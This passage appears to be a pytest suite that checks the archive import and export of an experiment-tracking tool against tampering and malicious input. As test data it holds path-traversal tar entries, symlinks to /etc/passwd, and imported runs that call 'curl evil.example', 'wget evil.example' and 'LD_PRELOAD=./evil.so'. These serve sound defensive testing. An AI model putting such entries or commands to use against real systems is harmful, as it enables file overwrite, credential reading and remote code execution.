    assert [one["name"] for one in call("archive", "--json").json] == [name]
    assert call("import", name, "-y").output == f"Imported 1 run(s) from {name}\n"


@pytest.mark.parametrize("name", ["../x", "a/b", "a\\b", ".hidden", "", " a", "a\n", "é" * 128])
def test_no_archive_has_a_name_that_leads_elsewhere(call: Call, home: Path, name: str) -> None:
    three(home)

    refused = call("archive", name, "--create", "-y")

    assert refused.code == 1
    assert "can't be the name of an archive" in refused.error
    assert len(ids(call)) == 3


def test_runs_are_deleted_from_a_directory_alone(call: Call, home: Path) -> None:
    three(home)
    call("export", "out", "-y")
    call("export", "out.zip", "-y")

    assert call("runs", "delete", "-A", "out", "1", "-y").output == "Permanently deleted 1 run(s)\n"
    assert ids(call, "-A", "out") == [IDS[1], IDS[0]]
    assert len(ids(call)) == 3
    assert call("runs", "-A", "out", "--deleted").code == 2
    assert "it is a file" in call("runs", "delete", "-A", "out.zip", "-y").error
    assert "holds the runs of a home" in call("runs", "delete", "-A", str(home), "-y").error
    assert len(ids(call, "-A", "out.zip")) == 3


# Imported runs are data


def imported(call: Call, home: Path, tmp_path: Path, **changes: Any) -> Run:
    """A run as it is after somebody has written it into an archive by hand."""
    source = tmp_path / "source"
    run = structs.replace(ended(id="evil"), **changes)
    make(source, run)
    called = call("import", str(source), "-y")
    assert called.code == 0, called.error
    return records.read_run(run_dir(home, "evil"))


@pytest.mark.parametrize(
    ("changes", "state"),
    [
        ({"state": "staged"}, "aborted"),
        ({"state": "pending"}, "aborted"),
        ({"state": "running"}, "lost"),
        ({"state": "running", "worker": a_worker(), "lease": 1 << 60}, "lost"),
        ({"state": "pending", "worker": a_worker(), "lease": 1 << 60, "attempt": 0}, "aborted"),
    ],
)
def test_nothing_imported_is_waiting_or_running(
    call: Call, home: Path, tmp_path: Path, changes: dict[str, Any], state: str
) -> None:
    run = imported(call, home, tmp_path, **changes)

    assert (run.state, run.worker, run.lease, run.handle) == (state, None, None, None)
    assert call("run", "queue", "run-once=yes", "-y").code == 0
    assert records.read_run(run_dir(home, "evil")).state == state
    assert records.read_run(run_dir(home, "evil")).attempt == run.attempt
    fence = attempt_directory(run_dir(home, "evil"), 1) / "fence"
    assert not fence.exists() or b'"pid":1' not in fence.read_bytes()
    assert not (fence.parent / "orders").exists()


def test_the_state_holds_when_the_store_is_lost(call: Call, home: Path, tmp_path: Path) -> None:
    imported(call, home, tmp_path, state="running", worker=a_worker())
    for name in ("store.db", "store.db-wal", "store.db-shm"):
        (home / name).unlink(missing_ok=True)

    assert [run["status"] for run in call("runs", "--json").json] == ["lost"]


def test_a_restart_shows_what_it_would_execute(call: Call, home: Path, tmp_path: Path) -> None:
    imported(call, home, tmp_path)

    asked = call("run", "--restart", "evil")

    assert asked.code == 2
    assert f"Run evil was imported from '{tmp_path / 'source'}'. It executes:\n  " in asked.error
    assert "imported: " in call("runs", "info", "evil").output


def test_a_batch_of_this_home_takes_no_trial_from_elsewhere(call: Call, home: Path, tmp_path: Path) -> None:
    make(home, ended(id="batch", kind="batch", batch_spec=a_batch(), flags={}, state="error", exit_code=1))

    run = imported(call, home, tmp_path, batch="batch", trial=7, generation=1, state="pending")

    assert (run.batch, run.trial) == (None, None)


def test_no_mark_in_an_imported_run_stands_for_a_secret_of_this_home(
    call: Call, home: Path, tmp_path: Path
) -> None:
    mark = f"{MARK}0123456789ab"

    run = imported(call, home, tmp_path, flags={"key": mark}, environment={"KEY": mark})

    assert run.flags == {"key": f"{MARK}{'0' * 12}"}
    assert run.environment == {"KEY": f"{MARK}{'0' * 12}"}
    assert "exists, skipping" in call("import", str(tmp_path / "source"), "-y").error


def test_an_attempt_that_the_record_does_not_know_is_over(call: Call, home: Path) -> None:
    make(home, ended(id="one"))
    call("export", "out", "-y")
    shutil.copytree(
        home.parent / "out/one/.orchestra/attempts/1", home.parent / "out/one/.orchestra/attempts/2"
    )
    (home.parent / "out/one/.orchestra/exported.json").unlink()

    other = home.parent / "other"
    assert call("-H", str(other), "import", "out", "-y").code == 0
    for _ in range(2):
        (run,) = call("-H", str(other), "runs", "--json").json
        assert (run["status"], run["attempt"]) == ("lost", 2)
        (other / "store.db").unlink()


# Damage and malice

Tamper = Callable[[Path], None]


def _edit(path: Path) -> None:
    (path / "one" / "model.bin").write_bytes(b"poisoned")


def _add(path: Path) -> None:
    (path / "one" / "extra.py").write_bytes(b"x")


def _remove(path: Path) -> None:
    (path / "one" / "model.bin").unlink()


def _relink(path: Path) -> None:
    (path / "one" / "sub" / "near").unlink()
    (path / "one" / "sub" / "near").symlink_to("run.sh")


def _relabel(path: Path) -> None:
    record = path / "one" / ".orchestra" / "run.json"
    record.write_text(record.read_text().replace('"created":', '"reason":"other","created":'))


def _unmanifest(path: Path) -> None:
    (path / "one" / ".orchestra" / "exported.json").write_text("{")


@pytest.mark.parametrize("tamper", [_edit, _add, _remove, _relink, _relabel, _unmanifest])
def test_what_differs_from_its_checksums_is_refused(
    call: Call, other: Call, home: Path, tmp_path: Path, tamper: Tamper
) -> None:
    make(home, ended(id="one"), ended(id="two"))
    call("export", "out", "-y")
    tamper(tmp_path / "out")

    refused = other("import", "out", "-y")

    assert refused.code == 1
    assert refused.error.startswith("orchestra: 'out' is damaged: ")
    assert ids(other) == []
    assert other("import", "out", "-y", "--allow-damaged").output == "Imported 2 run(s) from out\n"


@pytest.mark.parametrize("what", ["run", "checksums"])
def test_a_run_that_was_added_to_a_file_and_checksums_that_were_removed_are_noticed(
    call: Call, other: Call, home: Path, tmp_path: Path, what: str
) -> None:
    make(home, ended(id="one"))
    call("export", "out.zip", "-y")
    with zipfile.ZipFile(tmp_path / "out.zip") as whole, zipfile.ZipFile(tmp_path / "more.zip", "w") as more:
        for entry in whole.infolist():
            data = whole.read(entry)
            if what == "run" or not entry.filename.endswith("/exported.json"):
                more.writestr(entry, data)
            if what == "run" and entry.filename.startswith("one/"):
                more.writestr(entry.filename.replace("one/", "two/", 1), data.replace(b'"one"', b'"two"'))

    refused = other("import", "more.zip", "-y")

    assert refused.code == 1
    told = "run two was added to it" if what == "run" else "the checksums of run one are missing in it"
    assert told in refused.error
    assert ids(other) == []


def test_a_run_that_is_missing_in_a_file_is_noticed(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    make(home, ended(id="one"), ended(id="two"))
    call("export", "out.zip", "-y")
    with zipfile.ZipFile(tmp_path / "out.zip") as whole, zipfile.ZipFile(tmp_path / "cut.zip", "w") as cut:
        for entry in whole.infolist():
            if not entry.filename.startswith("two/"):
                cut.writestr(entry, whole.read(entry))

    assert "run two is missing in it" in other("import", "cut.zip", "-y").error
    assert ids(other) == []


@pytest.mark.parametrize("kind", ["out", "out.zip"])
def test_an_archive_of_a_newer_format_is_refused(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    three(home)
    call("export", "out", "-y")
    (tmp_path / "out" / INDEX).write_text('{"format":2}')
    if kind == "out.zip":
        shutil.make_archive("out", "zip", tmp_path / "out")

    for arguments in (("import", kind, "-y"), ("runs", "-A", kind)):
        refused = other(*arguments)
        assert refused.code == 1
        assert "was written by a newer version of orchestra (format 2, we know 1)" in refused.error


@pytest.mark.parametrize("kind", ["out.zip", "out.tar", "out.tar.gz", "out.tar.xz"])
def test_a_file_that_is_cut_off_anywhere_is_refused(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="one"))
    call("export", kind, "-y")
    # A tar ends with zeros, of which it needs only some.
    data = (tmp_path / kind).read_bytes().rstrip(b"\0")

    for part in range(1, 20):
        (tmp_path / kind).write_bytes(data[: len(data) * part // 20])
        refused = other("import", kind, "-y")
        assert (refused.code, refused.output) == (1, ""), part
    assert ids(other) == []
    assert leftovers(tmp_path / "other" / "runs") == []


@pytest.mark.parametrize("kind", ["out.zip", "out.tar.gz"])
def test_a_byte_that_was_flipped_is_never_imported(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="one"))
    call("export", kind, "-y")
    data = (tmp_path / kind).read_bytes()

    for place in range(0, len(data), max(1, len(data) // 25)):
        broken = bytearray(data)
        broken[place] ^= 0x55
        (tmp_path / kind).write_bytes(broken)
        called = other("import", kind, "-y")
        if called.code == 0:
            # In what says nothing of the runs, such as a time.
            assert files(run_dir(tmp_path / "other", "one")) == files(run_dir(home, "one")), place
            other("runs", "delete", "-y")
        else:
            assert called.code == 1, (place, called.error)
            assert ids(other) == []


def hostile(path: Path, *entries: tuple[str, dict[str, Any]]) -> None:
    """A tar with a run in it, and what ``entries`` say."""
    with tarfile.open(path, "a") as archive:
        for name, fields in entries:
            info = tarfile.TarInfo(name)
            for field, value in fields.items():
                setattr(info, field, value)
            archive.addfile(info, io.BytesIO(b""))


@pytest.mark.parametrize(
    "entry",
    [
        ("../escaped", {}),
        ("/tmp/escaped", {}),
        ("one/../../escaped", {}),
        ("one/evil", {"type": tarfile.SYMTYPE, "linkname": "/etc/passwd"}),
        ("one/evil", {"type": tarfile.SYMTYPE, "linkname": "../../../etc"}),
        ("one/evil", {"type": tarfile.LNKTYPE, "linkname": "/etc/passwd"}),
        ("one/evil", {"type": tarfile.CHRTYPE}),
        ("one/evil", {"type": tarfile.FIFOTYPE}),
        ("one/model.bin", {}),
        ("one/a\nb", {}),
    ],
)
@pytest.mark.parametrize("verb", ["import", "list"])
def test_a_hostile_file_is_refused_whole(
    call: Call, other: Call, home: Path, tmp_path: Path, entry: tuple[str, dict[str, Any]], verb: str
) -> None:
    make(home, ended(id="one"))
    call("export", "out.tar", "-y")
    hostile(tmp_path / "out.tar", entry)
    before = set(os.listdir(tmp_path))

    refused = (
        other("import", "out.tar", "-y", "--allow-damaged")
        if verb == "import"
        else other("runs", "-A", "out.tar")
    )

    assert (refused.code, refused.output) == (1, "")
    assert "is refused" in refused.error
    assert ids(other) == []
    assert set(os.listdir(tmp_path)) - before <= {"other"}


def test_a_manifest_makes_no_link_out_of_the_home(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    make(home, ended(id="one"), ended(id="two"))
    call("export", "out", "-y")
    path = tmp_path / "out/one/.orchestra/exported.json"
    manifest = json.loads(path.read_text())
    (tmp_path / "out/two/model.bin").write_text("model of two")
    manifest["outside"] = {
        "a": "/etc/passwd",
        "b": "../../../etc/passwd",
        "c": "../two/../../escape",
        "d": "../two/missing",
        "../e": "../two/model.bin",
        "sub/near/f": "../../two/model.bin",
        ".orchestra/g": "../../two/model.bin",
        "model.bin": "../two/model.bin",
        "fine": "../two/model.bin",
    }
    path.write_text(json.dumps(manifest))

    assert other("import", "out", "-y").code == 0

    links = {
        str(link.relative_to(tmp_path / "other/runs")): os.readlink(link)
        for link in (tmp_path / "other/runs").rglob("*")
        if link.is_symlink()
    }
    assert links == {
        "one/fine": "../two/model.bin",
        "one/sub/near": "../model.bin",
        "two/sub/near": "../model.bin",
    }


def test_a_link_in_a_directory_is_no_way_to_files_outside(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    (tmp_path / "private").mkdir()
    (tmp_path / "private/key").write_text("SECRET")
    make(home, ended(id="one"), ended(id="two"))
    call("export", "out", "-y")
    (tmp_path / "out/one/leak").symlink_to(tmp_path / "private")
    (tmp_path / "out/two/leak").symlink_to("../../private/key")
    (tmp_path / "out/linked").symlink_to(home / "runs" / "one")

    other("import", "out", "-y", "-r", "--allow-damaged")

    assert sorted(ids(other)) == ["one", "two"]
    assert b"SECRET" not in b"".join(files(tmp_path / "other").values())


@pytest.mark.parametrize("kind", KINDS)
def test_a_link_to_a_whole_run_is_one_again_and_never_copied(
    call: Call, other: Call, home: Path, tmp_path: Path, kind: str
) -> None:
    make(home, ended(id="all", kind="steps"), ended(id="prep", parent="all"))
    (run_dir(home, "all") / "prep").symlink_to("../prep")

    assert call("export", kind, "all", "-r", "-y").output == f"Exported 2 run(s) to {kind}\n"
    assert other("import", kind, "-r", "-y").code == 0

    assert os.readlink(run_dir(tmp_path / "other", "all") / "prep") == "../prep"


def test_a_run_in_a_directory_of_its_own_comes_from_another_home(
    call: Call, other: Call, home: Path, tmp_path: Path
) -> None:
    (tmp_path / "train.py").write_text("print('loss: 1')\n")
    assert call("run", "train.py", "--run-dir", str(tmp_path / "mine"), "-y").code == 0
    (run_id,) = ids(call)

    assert other("import", str(home), "-y").output == f"Imported 1 run(s) from {home}\n"
    assert call("export", "out", "--move", "-y").error.endswith(
        f"WARNING: {run_id}: the files in '{tmp_path / 'mine'}', chosen with --run-dir, are kept\n"
        "Environment variables were left out (use --environment to include them).\n"
    )
    for place in (tmp_path / "out" / run_id, run_dir(tmp_path / "other", run_id)):
        assert files(place) == {"train.py": b"print('loss: 1')\n"}
    assert other("cat", "--output").output == "loss: 1\n"
    assert "train.py" in other("runs", "info").output.partition("command: ")[2].splitlines()[0]


def test_what_can_be_worked_out_again_stays_behind(call: Call, home: Path, tmp_path: Path) -> None:
    make(home, ended(id="one"))
    assert "loss: 0.500000" in call("runs", "info").output
    assert (run_dir(home, "one") / ".orchestra/scalars.json").exists()

    call("export", "out", "-y")

    assert not (tmp_path / "out/one/.orchestra/scalars.json").exists()
    assert call("export", "out", "-y").error.startswith("WARNING: one exists, skipping\n")


def test_a_restart_of_a_pipeline_or_batch_shows_what_its_runs_would_execute(
    call: Call, other: Call, home: Path
) -> None:
    steps = ended(id="all", kind="steps", operation=an_operation(kind="steps", name="all"))
    evil = an_operation(
        name="evil",
        kind="executable",
        exec=("curl", "evil.example"),
        flags=(),
        project_file="/p/orchestra.yml",
    )
    make(home, steps, ended(id="step", parent="all", operation=evil, flags={}))
    call("export", "out", "-y")
    other("import", "out", "-y")

    assert "  curl evil.example\n" in other("run", "--restart", "all").error


def test_a_run_after_an_imported_one_shows_what_it_executes(call: Call, home: Path, tmp_path: Path) -> None:
    evil = an_operation(
        name="evil",
        kind="executable",
        exec=("curl", "evil.example"),
        flags=(),
        project_file="/p/orchestra.yml",
    )
    fetched = SourceDef(scheme="file", value="x", post_process="wget evil.example")
    needs = (Requirement(name="x", sources=(fetched,)),)
    evil = structs.replace(evil, requires=needs, env={"LD_PRELOAD": "./evil.so"})
    imported(call, home, tmp_path, operation=evil, flags={})

    for option in ("--proto", "--restart"):
        asked = call("run", option, "evil").error
        for line in ("curl evil.example", "wget evil.example", "env LD_PRELOAD=./evil.so"):
            assert f"  {line}\n" in asked


def test_the_store_that_is_settled_for_a_home_knows_nothing_of_archives(
    call: Call, home: Path, tmp_path: Path
) -> None:
    home.mkdir()
    (home / "config.yml").write_text(f"plugins: {{store: {{sqlite: {{path: {tmp_path / 'mine.db'}}}}}}}\n")
    three(home)
    call("export", "out", "-y")
    call("runs", "delete", "1", "-y")

    assert len(ids(call, "-A", "out")) == 3
    assert call("runs", "delete", "-A", "out", "-y").output == "Permanently deleted 3 run(s)\n"
    assert ids(call) == [IDS[1], IDS[0]]
    assert call("export", "elsewhere/x", "-y").code == 1


def test_programs_that_read_events_are_told(call: Call, other: Call, home: Path) -> None:
    make(home, ended(id="one"))

    exported = call("--log-format", "json", "export", "out", "-y")
    imported_there = other("--log-format", "json", "import", "out", "-y")

    for called, name, field in ((exported, "run.exported", "to"), (imported_there, "run.imported", "source")):
        events = [json.loads(line) for line in called.error.splitlines() if line.startswith("{")]
        told = next(event for event in events if event["event"] == name)
        assert (told["run"], told["data"][field]) == ("one", str(home.parent / "out"))
